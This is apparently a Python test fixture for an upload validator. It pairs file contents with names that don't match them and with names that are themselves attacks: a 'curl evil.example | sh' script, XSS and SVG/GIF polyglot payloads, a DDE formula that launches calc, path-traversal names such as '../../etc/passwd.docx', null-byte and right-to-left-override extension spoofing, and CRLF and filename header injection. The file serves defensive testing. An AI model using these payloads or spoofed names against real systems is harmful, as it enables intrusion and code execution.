"""Files under a name that is not theirs: every kind under every name, and names that attack."""

from tests.documents.makers import GOOD, OLE, zipped

from .case import Case

FOREIGN = {
    "programme": b"MZ\x90\0" + b"\0" * 400 + b"This program cannot be run in DOS mode",
    "elf": b"\x7fELF\x02\x01\x01" + b"\0" * 300,
    "page": b"<!doctype html><html><script>alert(document.domain)</script></html>",
    "page behind blanks": b"\n\n   <html><body onload=alert(1)></body></html>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>1</script></svg>',
    "rtf": rb"{\rtf1{\object\objemb{\*\objdata 0105}}}",
    "shell": b"#!/bin/sh\ncurl evil.example | sh\n",
    "zip": zipped({"a.txt": b"x"}),
    "7z": b"7z\xbc\xaf\x27\x1c" + b"\0" * 100,
    "rar": b"Rar!\x1a\x07\x01\0" + b"\0" * 100,
    "gif": b"GIF89a/*\x01\0\x01\0*/=1;alert(1)//;",
    "shortcut": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 100,
    "gzip": b"\x1f\x8b\x08" + b"\0" * 100,
    "bmp": b"BM" + b"\0" * 100,
    "text": b"=cmd|'/c calc'!A0\n",
}


def cases():
    for kind, data in GOOD.items():
        for name in GOOD:
            if name != kind:
                yield Case(f"{kind} named {name}", f"a.{name}", data, "mismatch")
    for kind, data in FOREIGN.items():
        for name in GOOD:
            yield Case(f"{kind} named {name}", f"a.{name}", data, "unknown")
    for name in GOOD:
        yield Case(f"old office named {name}", f"a.{name}", OLE, "old_office")
    for n, name in enumerate(NEVER):
        yield Case(f"name {n}", name, GOOD["docx"], "unknown")
    for n, name in enumerate(TAMED):
        yield Case(f"tamed name {n}", name, GOOD["docx"], "")


NEVER = [
    "a.exe",
    "a",
    ".docx.",
    "a.docx.html",
    "a.docx\x00.exe",
    "a.docm",
    "a.svg",
    "a.docx/",
    "a.docx:evil.exe",
    "a\u202exocd.exe",
]
TAMED = [
    "../../etc/passwd.docx",
    "..\\..\\windows\\a.docx",
    "/etc/cron.d/a.docx",
    "a\x00b.docx",
    "a\u202excod.docx",
    "a\u2066b\u2069.docx",
    "a\r\nSet-Cookie: x=1.docx",
    'a";filename=evil.exe;.docx',
    "<script>alert(1)</script>.docx",
    "CON.docx",
    "a" * 400 + ".docx",
    "Kế hoạch.docx",  # in pieces (NFD)
    "=HYPERLINK(1).docx",
    "a\u200b\u200d.docx",
]

"""What of these reaches disk or browser is a hash and harmless text."""
